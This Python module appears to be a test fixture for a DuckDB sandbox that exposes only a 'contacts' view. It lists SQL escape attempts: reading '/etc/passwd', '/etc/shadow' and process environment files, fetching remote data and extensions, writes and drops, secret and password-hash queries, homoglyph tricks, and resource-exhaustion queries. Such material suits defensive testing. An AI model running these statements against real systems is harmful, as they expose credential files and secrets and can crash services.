"""Statements that try to get out: what each class is after, and how. `contacts` is the one view there is."""

FILES = {
    "a file's text": "SELECT * FROM read_text('/etc/passwd')",
    "a file's bytes": "SELECT * FROM read_blob('/etc/passwd')",
    "a CSV file": "SELECT * FROM read_csv('/etc/passwd')",
    "a CSV file, sniffed": "SELECT * FROM sniff_csv('/etc/passwd')",
    "a JSON file": "SELECT * FROM read_json_auto('/etc/passwd')",
    "a Parquet file": "SELECT * FROM read_parquet('/etc/passwd')",
    "a Parquet file's head": "SELECT * FROM parquet_metadata('/etc/passwd')",
    "another store": "SELECT * FROM read_duckdb('/tmp/crm.duckdb')",
    "a file as a table": "SELECT * FROM '/etc/passwd'",
    "a file as a quoted table": 'SELECT * FROM "/tmp/x.parquet"',
    "a folder": "SELECT * FROM glob('/etc/*')",
    "a folder in a sub-select": "SELECT (SELECT count(*) FROM glob('/etc/*'))",
    "the process's own environment": "SELECT * FROM read_text('/proc/self/environ')",
    "a file by a list": "SELECT * FROM read_text(['/etc/passwd', '/etc/shadow'])",
    "a file in a join": "SELECT * FROM contacts JOIN read_text('/etc/passwd') ON true",
    "a file in a common table expression": "WITH a AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM a",
    "a file, laterally": "SELECT * FROM contacts, LATERAL (SELECT * FROM read_text(contacts.name))",
    "a file after a comment": "SELECT * FROM /* contacts */ read_text('/etc/passwd') -- contacts",
    "a file in capitals and blanks": "SeLeCt\n*\tFROM\n READ_TEXT\n('/etc/passwd')",
    "a file by a quoted function": "SELECT * FROM \"read_text\"('/etc/passwd')",
    "a file by a function with a schema": "SELECT * FROM main.read_text('/etc/passwd')",
    "a file by a function with a catalogue": "SELECT * FROM system.main.read_text('/etc/passwd')",
    "a file in a filter": "SELECT count(*) FILTER (WHERE (SELECT count(*) FROM glob('/*')) > 0) FROM contacts",
    "a file in an order": "SELECT * FROM contacts ORDER BY (SELECT content FROM read_text('/etc/passwd'))",
    "a file in a limit": "SELECT * FROM contacts LIMIT (SELECT count(*) FROM glob('/*'))",
    "a file in a window": "SELECT sum(1) OVER (ORDER BY (SELECT count(*) FROM glob('/*'))) FROM contacts",
    "a file in a lambda": "SELECT list_transform([1], lambda x: (SELECT count(*) FROM glob('/*')))",
    "a file in a list": "SELECT [(SELECT content FROM read_text('/etc/passwd'))]",
    "a file in a VALUES": "VALUES ((SELECT content FROM read_text('/etc/passwd')))",
    "a file in a union": "SELECT name FROM contacts UNION ALL SELECT content FROM read_text('/etc/passwd')",
    "a file in a star": "SELECT * REPLACE ((SELECT content FROM read_text('/etc/passwd')) AS name) FROM contacts",
    "a file in a pivot": "FROM (PIVOT (SELECT * FROM read_text('/etc/passwd')) ON size IN (1) USING count(*))",
}

NETWORK = {
    "a web page": "SELECT * FROM read_text('https://example.com')",
    "a web file as a table": "SELECT * FROM 'https://example.com/x.parquet'",
    "a bucket": "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "an extension": "INSTALL httpfs",
    "a loaded extension": "LOAD httpfs",
    "an extension from elsewhere": "INSTALL x FROM 'http://example.com'",
    "another database": "ATTACH 'http://example.com/x.duckdb' AS x",
}

WRITES = {
    "an insert": "INSERT INTO contacts VALUES (1)",
    "an update": "UPDATE contacts SET name = 'x'",
    "a delete": "DELETE FROM contacts",
    "a delete in a common table expression": "WITH d AS (DELETE FROM contacts RETURNING *) SELECT * FROM d",
    "an insert in a common table expression": "WITH d AS (INSERT INTO contacts VALUES (1) RETURNING *) SELECT * FROM d",
    "a table": "CREATE TABLE x AS SELECT 1",
    "a view": "CREATE VIEW x AS SELECT 1",
    "a macro": "CREATE MACRO x() AS TABLE SELECT * FROM duckdb_settings()",
    "a type": "CREATE TYPE x AS ENUM ('a')",
    "a sequence": "CREATE SEQUENCE x",
    "a schema": "CREATE SCHEMA x",
    "a dropped view": "DROP VIEW contacts",
    "a merge": "MERGE INTO contacts USING contacts AS o ON true WHEN MATCHED THEN DELETE",
    "a file of rows": "COPY contacts TO '/tmp/x.csv'",
    "a file of a query": "COPY (SELECT 1) TO '/tmp/x.parquet'",
    "a file read in": "COPY contacts FROM '/etc/passwd'",
    "everything as files": "EXPORT DATABASE '/tmp/x'",
    "everything from files": "IMPORT DATABASE '/tmp/x'",
    "an empty table": "TRUNCATE contacts",
    "a secret": "CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "a checkpoint": "CHECKPOINT",
    "a checkpoint by a function": "SELECT * FROM checkpoint()",
}

STATEMENTS = {
    "two": "SELECT 1; SELECT 2",
    "a second after a comment": "SELECT 1 /* ; */; DROP VIEW contacts",
    "a second on the next line": "SELECT 1;\nATTACH '/tmp/x.duckdb'",
    "none": "",
    "a comment alone": "-- SELECT 1",
    "semicolons alone": ";;;",
    "a transaction": "BEGIN",
    "an explained delete": "EXPLAIN ANALYZE DELETE FROM contacts",
    "a prepared one": "PREPARE x AS SELECT * FROM duckdb_settings()",
    "an executed one": "EXECUTE x",
    "a forgotten one": "DEALLOCATE x",
    "a call": "CALL duckdb_settings()",
    "another catalogue": "USE memory",
    "a vacuum": "VACUUM",
    "statistics": "ANALYZE",
    "a text comment": "COMMENT ON VIEW contacts IS 'x'",
}

SETTINGS = {
    "a setting": "SET memory_limit = '100GB'",
    "a global setting": "SET GLOBAL enable_external_access = true",
    "a setting put back": "RESET memory_limit",
    "a variable": "SET VARIABLE x = 1",
    "a pragma": "PRAGMA database_list",
    "a pragma that sets": "PRAGMA enable_profiling",
    "a setting's value": "SELECT current_setting('memory_limit')",
    "the settings": "SELECT * FROM duckdb_settings()",
    "the settings by their view": "SELECT * FROM duckdb_settings",
    "a variable's value": "SELECT getvariable('actor_id')",
    "an environment variable": "SELECT getenv('HOME')",
    "the version": "SELECT version()",
    "the platform": "SELECT * FROM pragma_platform()",
    "logging": "CALL enable_logging()",
    "a log entry": "SELECT write_log('x')",
    "the log": "SELECT * FROM duckdb_logs",
}

CATALOGUE = {
    "the secrets": "SELECT * FROM duckdb_secrets()",
    "which secret": "SELECT * FROM which_secret('s3://x', 's3')",
    "the tables": "SELECT * FROM duckdb_tables()",
    "the views": "SELECT * FROM duckdb_views()",
    "the columns": "SELECT * FROM duckdb_columns()",
    "the functions": "SELECT * FROM duckdb_functions()",
    "the extensions": "SELECT * FROM duckdb_extensions()",
    "the databases": "SELECT * FROM duckdb_databases()",
    "the memory": "SELECT * FROM duckdb_memory()",
    "the temporary files": "SELECT * FROM duckdb_temporary_files()",
    "the standard's tables": "SELECT * FROM information_schema.tables",
    "the standard's columns": "SELECT * FROM information_schema.columns",
    "PostgreSQL's tables": "SELECT * FROM pg_catalog.pg_class",
    "PostgreSQL's tables, bare": "SELECT * FROM pg_tables",
    "PostgreSQL's settings": "SELECT * FROM pg_settings",
    "SQLite's tables": "SELECT * FROM sqlite_master",
    "a shown table": "SHOW TABLES",
    "all shown tables": "FROM (SHOW ALL TABLES)",
    "a described table": "FROM (DESCRIBE contacts)",
    "a summed-up table": "FROM (SUMMARIZE contacts)",
    "a table's info": "SELECT * FROM pragma_table_info('contacts')",
    "a storage's info": "SELECT * FROM pragma_storage_info('contacts')",
    "a view's definition": "SELECT pg_get_viewdef('contacts')",
    "the running query": "SELECT current_query()",
    "the connection": "SELECT current_connection_id()",
    "the transaction": "SELECT txid_current()",
    "a named cast into the catalogue": "SELECT 'contacts'::regclass",
    "the catalogue under the name of an expression": (
        "WITH duckdb_settings AS (SELECT 1) SELECT * FROM main.duckdb_settings"
    ),
    "the catalogue behind an expression that ended": (
        "SELECT * FROM (WITH duckdb_settings AS (SELECT 1 AS a) SELECT a FROM duckdb_settings), duckdb_settings"
    ),
}

OTHERS = {
    "the people's table": "SELECT * FROM base.users",
    "the people's table in quotes": 'SELECT * FROM "base"."users"',
    "the passwords": "SELECT password_hash FROM users",
    "the sessions": "SELECT * FROM sessions",
    "the tokens": "SELECT * FROM base.tokens",
    "the other view of contacts": "SELECT * FROM everything.contacts",
    "another catalogue's contacts": "SELECT * FROM crm.base.contacts",
    "the people in a sub-select": "SELECT * FROM contacts WHERE name IN (SELECT password_hash FROM base.users)",
    "the people in an EXISTS": "SELECT * FROM contacts WHERE EXISTS (FROM base.users)",
    "the people, positionally": "SELECT * FROM contacts POSITIONAL JOIN base.users",
    "the people in a sample": "SELECT * FROM base.users USING SAMPLE 1",
    "the people of yesterday": "SELECT * FROM contacts AT (VERSION => 1)",
    "the people by a look-alike": "SELECT * FROM соntacts",  # the first two letters are Cyrillic
    "the people by an invisible letter": "SELECT * FROM con\u200btacts",
}

DYNAMIC = {
    "a query in a text": "SELECT * FROM query('SELECT * FROM duckdb_settings()')",
    "a table in a text": "SELECT * FROM query_table('contacts')",
    "a table in a text, chained": "SELECT * FROM 'contacts'.query_table()",
    "a serialized query": "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "a serialization": "SELECT json_serialize_sql('SELECT 1')",
    "a plan": "SELECT json_serialize_plan('SELECT 1')",
    "a sequence's value": "SELECT nextval('x')",
    "a pointer": "SELECT * FROM arrow_scan(1, 2, 3)",
    "a pointer to a frame": "SELECT * FROM pandas_scan(1)",
    "Python's own scan": "SELECT * FROM python_arrow_scan()",
    "Python's own function": "SELECT * FROM python_map_function()",
    "a variable of Python": "SELECT * FROM request",
    "a grammar": "SELECT * FROM add_grammar_extension('x')",
    "an outer resource": "SELECT * FROM create_external_resource('x')",
    "sleep": "SELECT sleep_ms(100000)",
    "PostgreSQL's sleep": "SELECT pg_sleep(100)",
    "an internal function": "SELECT __internal_barrier(1)",
    "a positional parameter": "SELECT ?",
    "a numbered parameter": "SELECT $1",
    "a type from a schema": "SELECT CAST(1 AS main.x)",
}

ESCAPES = {
    f"{group}: {what}": sql
    for group, attacks in {
        "files": FILES,
        "network": NETWORK,
        "writes": WRITES,
        "statements": STATEMENTS,
        "settings": SETTINGS,
        "catalogue": CATALOGUE,
        "others": OTHERS,
        "dynamic": DYNAMIC,
    }.items()
    for what, sql in attacks.items()
}

BOMBS = {
    "a text": "SELECT repeat(repeat('x', 100000), 100000)",
    "a doubled text": "SELECT list_reduce([1, 2, 3, 4], lambda a, b: a) + len(repeat(repeat('ab', 30000), 30000))",
    "a list": "SELECT len(list(i)) FROM range(2000000000) t(i)",
    "a range": "SELECT len(range(3000000000))",
    "a sort": "SELECT max(s) FROM (SELECT repeat('x', 1000) AS s FROM range(100000000) ORDER BY random())",
    "a cross join": "SELECT count(DISTINCT a.i * b.i) FROM range(100000) a(i), range(100000) b(i)",
    "a recursion": "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT max(n) FROM t",
    "a recursion that doubles": (
        "WITH RECURSIVE t(s) AS (SELECT 'xxxxxxxx' UNION ALL SELECT s || s FROM t) SELECT max(len(s)) FROM t"
    ),
    "a count": "SELECT count(*) FROM range(100000000000) t(i) WHERE i % 7 = 3",
    "a pattern": "SELECT regexp_replace(repeat('a', 30000000), '(a|aa)+$', 'b', 'g') FROM range(1000)",
    "a padded text": "SELECT lpad('x', 2000000000, 'y')",
    "a factorial of joins": " ".join(
        ["SELECT count(*) FROM range(1000) t0(i)", *(f"CROSS JOIN range(1000) t{n}(i)" for n in range(1, 12))]
    ),
}
"""Statements that are allowed, and want more than there is."""

DEEP = {
    "brackets": "SELECT " + "(" * 20_000 + "1" + ")" * 20_000,
    "negations": "SELECT " + "NOT " * 20_000 + "true",
    "sums": "SELECT " + "1+" * 20_000 + "1",
    "sub-selects": "SELECT * FROM (" * 3_000 + "SELECT 1" + ")" * 3_000,
    "lists": "SELECT " + "[" * 20_000 + "]" * 20_000,
    "cases": "SELECT " + "CASE WHEN true THEN " * 3_000 + "1" + " END" * 3_000,
    "unions": " UNION ALL ".join(["SELECT 1"] * 4_500),
}
"""Nested deeper than a stack may be."""
